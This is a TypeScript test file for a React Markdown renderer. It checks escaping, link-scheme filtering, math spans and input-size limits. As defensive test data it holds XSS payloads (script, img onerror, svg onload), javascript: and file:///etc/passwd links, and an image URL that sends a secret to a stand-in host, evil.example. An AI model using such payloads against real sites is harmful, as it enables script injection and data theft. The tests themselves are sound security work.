import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Markdown } from './Markdown.tsx'
import { PlainText } from './PlainText.tsx'
import { canRenderMarkdown } from './Prose.tsx'

const drawn = (text: string) => renderToStaticMarkup(<Markdown text={text} writing={false} />)

test.each([
  ['<script>alert(1)</script>', 'alert(1)'],
  ['<img src=x onerror=alert(1)>', 'onerror=alert(1)'],
  ['<svg onload=alert(1)>', 'onload=alert(1)'],
  ['words <b>bold</b> words', '&lt;b&gt;bold&lt;/b&gt;'],
])('W7 %s is shown as the words it is', (text, wanted) => {
  const html = drawn(text)
  expect(html).toContain(wanted)
  expect(html).not.toMatch(/<(script|img|svg|b)\b/)
})

test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
  'W7 a link to %s leads nowhere',
  url => {
    expect(drawn(`[words](${url})`)).not.toContain('href="')
  },
)

test('W7 a picture from elsewhere is a link, not a request', () => {
  const html = drawn('![the plan](https://evil.example/pixel.png?d=secret)')
  expect(html).not.toContain('<img')
  expect(html).toMatch(/<a href="https:\/\/evil\.example[^>]*rel="noopener noreferrer nofollow"[^>]*>the plan<\/a>/)
})

test('O1 ¶ 24 in an answer leads to message 24, in this page; in code and in a link it stays as it is', () => {
  expect(drawn('> Gas.\n\n— you, ¶ 24, from the summary')).toContain('<a href="#m24" class="unbroken">¶ 24</a>')
  expect(drawn('`¶ 24` and [see ¶ 24](https://a.example/)')).not.toContain('#m24')
})

test('W7 code has its name and every letter', () => {
  expect(drawn('```ts src/claim.ts\nconst a = "<b>"\n```')).toMatch(
    /src\/claim\.ts[\s\S]*const[\s\S]*&quot;&lt;b&gt;&quot;/,
  )
})

test('W12 a formula is as it was written where nobody draws it, and so it stays in code', () => {
  const html = drawn('The *area* $a_1*b_1*c$ and `$x$`.\n\n    $y$\n\n| a |\n|---|\n| $|x|$ |')
  expect(html).toContain('<span class="tex">$a_1*b_1*c$</span>')
  expect(html).toContain('<code>$x$</code>')
  expect(html).toContain('>$y$</pre>')
  expect(html).toMatch(/<td[^>]*><span class="tex">\$\|x\|\$<\/span><\/td>/)
})

test('W12 letters that stand for formulas elsewhere are letters where a text has them', () => {
  expect(drawn('\uE0000\uE001 and $x$')).toContain('\uE0000\uE001 and $x$')
})

test('V1 a person’s words keep every letter and line break', () => {
  const html = renderToStaticMarkup(<PlainText text={'__init__ *is*\n# not a heading <b>\n\n`code`'} />)
  expect(html).toBe(
    '<p class="as-written" dir="auto">__init__ *is*\n# not a heading &lt;b&gt;\n\n<code>code</code></p>',
  )
})

test.each([
  ['> '.repeat(5000), false],
  ['- '.repeat(5000), false],
  ['['.repeat(5000), false],
  ['a'.repeat(200_000), false],
  [`${'> '.repeat(3)}quoted`, true],
  ['A table\n\n| a | b |\n|---|---|\n| 1 | 2 |', true],
  ['---------------------------------------------', true],
])('W7 only tame texts are read as Markdown', (text, tame) => {
  expect(canRenderMarkdown(text)).toBe(tame)
})
